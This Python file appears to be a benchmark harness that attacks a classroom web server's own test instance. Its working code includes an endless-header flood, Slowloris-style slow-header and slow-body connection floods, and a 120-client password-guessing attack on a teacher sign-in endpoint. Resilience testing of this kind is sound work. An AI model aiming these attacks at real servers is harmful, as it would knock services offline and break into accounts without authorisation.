"""Attackers of a live classroom, without imports that take long: each runs as a program.

python benchmarks/attackers.py "endless header" 127.0.0.1 8000
"""

from __future__ import annotations

import asyncio
import os
import re
import socket
import sys
from contextlib import suppress


async def endless_header(host: str, port: int) -> None:
    """Send a header that never ends, as fast as it is taken; begin again when cut off."""
    while True:
        with suppress(OSError), socket.create_connection((host, port)) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: school\r\nX-Long: ")
            while True:
                connection.sendall(b"a" * 65_536)


async def slow_headers(host: str, port: int) -> None:
    """Hold 300 requests whose headers never end, and which grow by some bytes each second."""
    await _trickled(host, port, b"GET / HTTP/1.1\r\nHost: school\r\n", b"X-Slow: 1\r\n")


async def slow_bodies(host: str, port: int) -> None:
    """Hold 300 requests whose bodies arrive very slowly."""
    head = b"POST /api/join HTTP/1.1\r\nHost: %b\r\nOrigin: http://%b\r\n"
    here = f"{host}:{port}".encode()
    length = b"Content-Type: application/json\r\nContent-Length: 900000\r\n\r\n{"
    await _trickled(host, port, head % (here, here) + length, b" ")


async def _trickled(host: str, port: int, begin: bytes, drop: bytes) -> None:
    async def one() -> None:
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(host, port)
                writer.write(begin)
                cut_off = False
                while not cut_off:
                    writer.write(drop)
                    with suppress(TimeoutError):
                        cut_off = not await asyncio.wait_for(reader.read(1000), 1.0)
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(300)))


async def guessed_passwords(host: str, port: int, *, addresses: int = 1) -> None:
    """Guess passwords from 120 clients, each as fast as it is answered."""
    here, body = f"{host}:{port}", b'{"password": "a guess"}'
    head = (
        f"POST /api/teacher/sign-in HTTP/1.1\r\nHost: {here}\r\nOrigin: http://{here}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    )

    async def one(number: int) -> None:
        source = (f"127.0.0.{1 + number % addresses}", 0)
        while True:
            with suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(host, port, local_addr=source)
                while True:
                    writer.write(head.encode() + body)
                    answer = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
                    [length] = re.findall(r"content-length: (\d+)", answer, re.IGNORECASE)
                    await reader.readexactly(int(length))

    await asyncio.gather(*(one(number) for number in range(120)))


async def guessed_from_120_addresses(host: str, port: int) -> None:
    """Do the same from as many addresses."""
    await guessed_passwords(host, port, addresses=120)


ATTACKS = {
    "endless header": endless_header,
    "300 slow headers": slow_headers,
    "300 slow bodies": slow_bodies,
    "120 clients guess passwords": guessed_passwords,
    "the same, from 120 addresses": guessed_from_120_addresses,
}

if __name__ == "__main__":
    attack, at, listening = sys.argv[1:]
    print("begins", flush=True)
    os.nice(10)
    asyncio.run(ATTACKS[attack](at, int(listening)))
